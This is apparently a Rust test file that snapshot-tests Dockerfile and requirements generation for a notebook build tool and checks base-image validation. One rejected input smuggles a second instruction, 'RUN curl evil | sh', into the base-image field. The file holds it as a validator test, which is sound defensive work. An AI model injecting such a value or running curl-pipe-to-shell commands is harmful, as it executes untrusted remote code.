//! The generated Dockerfiles and the status lines, as snapshots.

use nbv_core::build::{Recipe, generate_dockerfile};

const BASE: &str = "quay.io/jupyter/minimal-notebook:latest";

fn recipes() -> [(&'static str, Recipe); 5] {
    [
        (
            "requirements",
            Recipe::Requirements {
                path: "notebooks/tier2/requirements.txt".into(),
            },
        ),
        (
            "imports",
            Recipe::Imports {
                packages: vec!["numpy".into(), "pandas".into()],
            },
        ),
        ("imports_none", Recipe::Imports { packages: vec![] }),
        (
            "base_image",
            Recipe::BaseImage {
                looked_at: vec![
                    "notebooks/tier2/requirements.txt".into(),
                    "notebooks/requirements.txt".into(),
                    "requirements.txt".into(),
                ],
            },
        ),
        (
            "dockerfile",
            Recipe::Dockerfile {
                path: "docker/Dockerfile".into(),
            },
        ),
    ]
}

#[test]
fn generated_dockerfiles() {
    for (name, recipe) in recipes() {
        let generated = generate_dockerfile(BASE, &recipe).expect("a valid base image");
        match recipe {
            Recipe::Dockerfile { .. } => assert_eq!(generated, None),
            _ => insta::assert_snapshot!(format!("dockerfile_{name}"), generated.unwrap()),
        }
    }
}

#[test]
fn summaries() {
    let mut lines: Vec<String> = recipes()
        .iter()
        .map(|(name, recipe)| format!("{name}: {}", recipe.summary()))
        .collect();
    lines.push(format!(
        "base_image_nothing_named: {}",
        Recipe::BaseImage { looked_at: vec![] }.summary()
    ));
    insta::assert_snapshot!("summaries", lines.join("\n"));
}

#[test]
fn generated_requirements_list_the_packages() {
    let recipe = Recipe::Imports {
        packages: vec!["numpy".into(), "scikit-learn".into()],
    };
    insta::assert_snapshot!(
        "generated_requirements",
        recipe.generated_requirements().unwrap()
    );
    for (_, recipe) in recipes() {
        if !matches!(recipe, Recipe::Imports { .. }) {
            assert_eq!(recipe.generated_requirements(), None);
        }
    }
}

#[test]
fn a_base_image_that_is_not_a_reference_is_refused() {
    let recipe = Recipe::Requirements {
        path: "requirements.txt".into(),
    };
    for bad in [
        "",
        "python:3.12\nRUN curl evil | sh",
        "python 3.12",
        "Python:3",
        "${BASE}",
    ] {
        let error = generate_dockerfile(bad, &recipe).unwrap_err();
        assert_eq!(
            error.field(),
            "spec.podConfig.buildConfig.baseImage",
            "{bad:?}"
        );
    }
    for good in [
        "python:3.12",
        "localhost:5000/team/nb@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
    ] {
        assert!(generate_dockerfile(good, &recipe).is_ok(), "{good}");
    }
}
